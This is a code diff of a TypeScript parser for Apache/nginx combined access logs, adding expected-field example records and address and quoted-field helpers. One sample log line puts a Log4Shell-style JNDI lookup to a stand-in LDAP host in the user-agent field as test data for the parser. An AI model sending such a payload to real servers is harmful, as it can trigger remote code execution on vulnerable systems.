@@ -1,5 +1,7 @@
 import { readTime } from '../time/read-time.ts'
+import { addressOf } from './address-of.ts'
 import type { LogFormat } from './format.ts'
+import { quotedFields, requestOf } from './quoted-fields.ts'
 
 /**
  * The access log of Apache and nginx: `host ident user [time] "request" status bytes`, and, as most have it, `"referer"
@@ -11,55 +13,49 @@ export const combined: LogFormat = {
   definedBy: 'https://httpd.apache.org/docs/2.4/logs.html#combined',
   examples: {
     reads: [
-      '203.0.113.83 - - [12/Dec/2021:04:25:41 +0000] "GET / HTTP/1.1" 200 612 "-" "${jndi:ldap://x.example/a}"',
-      '2001:db8::1 - alice [12/Dec/2021:04:25:41 +0000] "GET /?q=1 HTTP/2.0" 404 -',
-      'www.example:443 203.0.113.83 - - [12/Dec/2021:04:25:41 +0000] "GET / HTTP/1.1" 200 612 "-" "curl/7.79"',
+      {
+        record:
+          '203.0.113.83 - - [12/Dec/2021:04:25:41 +0000] "GET / HTTP/1.1" 200 612 "-" "${jndi:ldap://x.example/a}"',
+        when: '2021-12-12T04:25:41Z',
+        from: '203.0.113.83',
+        request: 'GET /',
+        userAgent: '${jndi:ldap://x.example/a}',
+      },
+      {
+        record: '2001:db8::1 - alice [12/Dec/2021:05:25:41 +0100] "GET /?q=1 HTTP/2.0" 404 -',
+        when: '2021-12-12T04:25:41Z',
+        from: '2001:db8::1',
+        request: 'GET /?q=1',
+      },
+      {
+        record:
+          'www.example:443 203.0.113.83 - - [12/Dec/2021:04:25:41 +0000] "GET / HTTP/1.1" 200 612 "-" "curl/7.79"',
+        when: '2021-12-12T04:25:41Z',
+        from: '203.0.113.83',
+        request: 'GET /',
+        userAgent: 'curl/7.79',
+      },
     ],
     refuses: ['GET / HTTP/1.1', '203.0.113.83 - - "GET / HTTP/1.1" 200 612'],
   },
-  read(text, { around }) {
-    const head = /^(?:\S{1,300} )?(\S{1,300}) \S{1,300} (\S{1,2000}) \[([^\]]{10,40})\] "/.exec(text)
+  read({ text }, { around }) {
+    const head = /^(?:(\S{1,300}) )?(\S{1,300}) \S{1,300} (\S{1,2000}) \[([^\]]{10,40})\] "/.exec(text)
     if (head === null) return null
-    const [whole, from = '', user = '', time = ''] = head
-    const quoted = quotedFrom(text, whole.length - 1)
-    const [request = '', ...others] = quoted
-    const referer = others[0] ?? null
-    const userAgent = others[1] ?? null
+    const [whole, host, client = '', user = '', time = ''] = head
+    const quoted = quotedFields(text, whole.length - 1)
+    const [request = '', , userAgent = '-'] = quoted
     const names = ['request', 'referer', 'user agent']
     return {
       when: readTime(time, around),
-      from,
-      request: /^(\S{1,20} [^\s]*)/.exec(request)?.[1] ?? (request === '' ? null : request),
+      from: addressOf(client),
+      request: requestOf(request),
       userAgent: userAgent === '-' ? null : userAgent,
       fields: [
+        ...(host === undefined ? [] : [{ name: 'host', value: host }]),
+        { name: 'client', value: client },
         { name: 'user', value: user },
         ...quoted.map((value, index) => ({ name: names[index] ?? null, value })),
-        // Where a quote was written as it is, pieces stand outside of any field.
-        ...(referer === null && text.length > whole.length + request.length + 40 ? [{ name: null, value: text }] : []),
       ],
     }
   },
-}
-
-/** Fields in quotes from `start` on, escapes as written; the last one may not be closed. */
-function quotedFrom(text: string, start: number): readonly string[] {
-  const fields: string[] = []
-  for (let at = start; at >= 0 && fields.length < mostFields; at = text.indexOf('"', at)) {
-    const end = closingQuote(text, at + 1)
-    fields.push(text.slice(at + 1, end))
-    at = end + 1
-  }
-  return fields
-}
-
-const mostFields = 64
-
-/** A quote behind a backslash is part of the field; a quote within it that no blank follows is taken for part of it too. */
-function closingQuote(text: string, from: number): number {
-  for (let at = from; at < text.length; at++) {
-    const code = text.charCodeAt(at)
-    if (code === 0x5c) at++
-    else if (code === 0x22 && (at + 1 >= text.length || text.charCodeAt(at + 1) <= 0x20)) return at
-  }
-  return text.length
 }
